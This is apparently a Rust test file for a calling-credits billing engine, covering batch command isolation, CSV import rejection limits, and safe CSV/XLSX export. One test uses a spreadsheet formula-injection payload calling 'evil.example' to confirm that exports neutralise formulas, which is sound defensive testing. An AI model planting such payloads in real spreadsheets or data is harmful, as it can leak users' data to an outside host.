//! Bad input never breaks more than its own command: on PostgreSQL (which refuses NUL in
//! text), a command whose value the database refuses fails alone, and the good commands
//! of the same batch are applied.

mod common;

use commcredits_core::ErrorCode;
use commcredits_engine::calls::AuthorizeRequest;
use commcredits_engine::{Command, Engine, Outcome};
use commcredits_store::postgres::{test_database, PostgresStore};
use common::*;
use std::sync::Arc;

const DEFAULT_DATABASE_URL: &str = "postgres://postgres@127.0.0.1:5432/test";

fn authorize(org: &str, call_id: &str, user: &str) -> Command {
    Command::Authorize(AuthorizeRequest {
        org: org.into(),
        call_id: call_id.into(),
        call_type: "outbound".into(),
        user: Some(user.into()),
        from: "+442079460000".into(),
        to: "+14155550100".into(),
        requested_seconds: Some(60),
    })
}

#[test]
fn on_postgres_a_value_the_database_refuses_fails_only_its_own_command() {
    let base = std::env::var("DATABASE_URL").unwrap_or_else(|_| DEFAULT_DATABASE_URL.to_string());
    let db = test_database(&base).expect("a PostgreSQL server on which tests may create databases (DATABASE_URL)");
    let store = PostgresStore::open(db.url()).unwrap();
    let e = Engine::new(Arc::new(store)).unwrap();
    let now = t("2026-11-02T09:00:00Z");
    let o = setup(&e, now);
    e.purchase(&o.id, "50.00", &o.card, None, None, now).unwrap();
    let results = e
        .apply(
            now,
            vec![
                authorize(&o.id, "good-1", &o.bob),
                authorize(&o.id, "bad\0id", &o.bob),
                authorize(&o.id, "good-2", &o.bob),
            ],
        )
        .expect("the batch is applied even though one command carries a NUL");
    assert!(matches!(&results[0], Ok(Outcome::Authorized(v)) if v.granted_seconds > 0), "{:?}", results[0]);
    let bad = results[1].as_ref().expect_err("PostgreSQL cannot store a NUL");
    assert_eq!(bad.code, ErrorCode::InvalidInput, "{bad}");
    assert!(matches!(&results[2], Ok(Outcome::Authorized(v)) if v.granted_seconds > 0), "{:?}", results[2]);
    // The good calls were really committed: ending them charges them.
    end(&e, now, &o.id, "good-1", 30);
    end(&e, now, &o.id, "good-2", 30);
    drop(e);
    drop(db);
}

/// A file of bad rows lists only the first rejects (by line) and counts them all, and the
/// caller that wants every reject gets each one, in line order, as its batch is done.
#[test]
fn an_import_of_many_bad_rows_lists_the_first_and_counts_them_all() {
    use commcredits_engine::cdr::MAX_REPORTED_REJECTS;
    let e = engine();
    let now = t("2026-11-02T09:00:00Z");
    let o = setup(&e, now);
    e.purchase(&o.id, "50.00", &o.card, None, None, now).unwrap();
    let mut csv = String::from("call_id,type,user,from,to,start_time,duration_seconds\n");
    let bad_rows = 5_000;
    for n in 0..bad_rows {
        if n % 2 == 0 {
            csv.push_str("x\n");
        } else {
            csv.push_str(&format!("b{n},outbound,{},+442079460000,+1,2026-11-01T10:00:00Z,60\n", o.bob));
        }
    }
    csv.push_str(&format!("good,outbound,{},+442079460000,+14155550100,2026-11-01T10:00:00Z,60\n", o.bob));
    let mut seen = Vec::new();
    let report = e
        .import_cdrs_with_rejects(&o.id, csv.as_bytes(), now, &mut |_| {}, &mut |p| {
            seen.push(p.line);
            Ok(())
        })
        .unwrap();
    assert_eq!(report.rows, bad_rows + 1);
    assert_eq!(report.charged, 1);
    assert_eq!(report.rejected_total, bad_rows);
    assert_eq!(report.rejected.len(), MAX_REPORTED_REJECTS);
    let lines: Vec<u64> = report.rejected.iter().map(|p| p.line).collect();
    assert_eq!(lines, (2..2 + MAX_REPORTED_REJECTS as u64).collect::<Vec<_>>());
    assert_eq!(report.rejected_by_code.get("invalid_cdr"), Some(&(bad_rows / 2)));
    assert_eq!(report.rejected_by_code.get("invalid_phone_number"), Some(&(bad_rows / 2)));
    assert_eq!(seen, (2..2 + bad_rows as u64).collect::<Vec<_>>(), "every reject once, in line order");
}

/// A field no id, number or type comes near, or one with a control character, is
/// refused on its row (and not echoed), before anything reaches the store.
#[test]
fn an_import_refuses_overlong_fields_and_control_characters_per_row() {
    let e = engine();
    let now = t("2026-11-02T09:00:00Z");
    let o = setup(&e, now);
    e.purchase(&o.id, "50.00", &o.card, None, None, now).unwrap();
    let long = "9".repeat(200_000);
    let csv = format!(
        "call_id,type,user,from,to,start_time,duration_seconds\n\
         long,outbound,{bob},+442079460000,+{long},2026-11-01T10:00:00Z,60\n\
         \"nul\0id\",outbound,{bob},+442079460000,+14155550100,2026-11-01T10:00:00Z,60\n\
         good,outbound,{bob},+442079460000,+14155550100,2026-11-01T10:00:00Z,60\n",
        bob = o.bob
    );
    let report = e.import_cdrs(&o.id, csv.as_bytes(), now, &mut |_| {}).unwrap();
    assert_eq!(report.charged, 1, "{report:?}");
    assert_eq!(report.rejected_total, 2);
    for p in &report.rejected {
        assert_eq!(p.code, "invalid_cdr", "{p:?}");
        assert!(p.message.len() < 400, "the message does not echo the field: {} bytes", p.message.len());
    }
}

/// A display name a spreadsheet would run as a formula comes out of the CSV export as
/// text (a leading quote), numbers stay as they are; the workbook holds it as a string.
#[test]
fn exports_never_hand_a_spreadsheet_a_formula() {
    use calamine::{open_workbook, Data, Reader, Xlsx};
    use commcredits_engine::usage::UsageFilter;
    let e = engine();
    let now = t("2026-11-02T09:00:00Z");
    let o = setup(&e, now);
    e.purchase(&o.id, "50.00", &o.card, None, None, now).unwrap();
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let eve = created(one(
        &e,
        now,
        Command::CreateUser {
            org: o.id.clone(),
            upn: "eve@contoso.com".into(),
            display_name: name.into(),
            usage_location: "GB".into(),
            phone_number: None,
        },
    ));
    for sku in ["phone_system", "communications_credits"] {
        one(&e, now, Command::AssignLicense { org: o.id.clone(), sku: sku.into(), users: vec![eve.clone()] });
    }
    let csv = format!(
        "call_id,type,user,from,to,start_time,duration_seconds\n\
         -1+1,outbound,{eve},+442079460000,+14155550100,2026-11-01T10:00:00Z,60\n"
    );
    let report = e.import_cdrs(&o.id, csv.as_bytes(), now, &mut |_| {}).unwrap();
    assert_eq!(report.charged, 1, "{report:?}");
    let filter = UsageFilter {
        from: Some(t("2026-11-01T00:00:00Z")),
        to: Some(t("2026-12-01T00:00:00Z")),
        ..UsageFilter::default()
    };
    let mut out = Vec::new();
    e.write_usage_csv(&o.id, &filter, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let header = rdr.headers().unwrap().clone();
    let row = rdr.records().next().unwrap().unwrap();
    let cell = |h: &str| row[header.iter().position(|x| x == h).unwrap_or_else(|| panic!("{h}"))].to_string();
    assert_eq!(cell("User Display Name"), format!("'{name}"), "{text}");
    assert_eq!(cell("Call ID"), "'-1+1");
    assert_eq!(cell("Caller ID"), "+442079460000", "an E.164 number is a plain number: {text}");
    assert!(!cell("Charge").starts_with('\''), "{text}");
    // The workbook: a string cell, and no formula anywhere.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("usage.xlsx");
    e.write_usage_xlsx(&o.id, &filter, &path).unwrap();
    let mut wb: Xlsx<_> = open_workbook(&path).unwrap();
    let range = wb.worksheet_range("PSTN usage").unwrap();
    let names: Vec<&Data> = range.rows().skip(1).map(|r| &r[6]).collect();
    assert_eq!(names, vec![&Data::String(name.into())]);
    let formulas = wb.worksheet_formula("PSTN usage").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
}
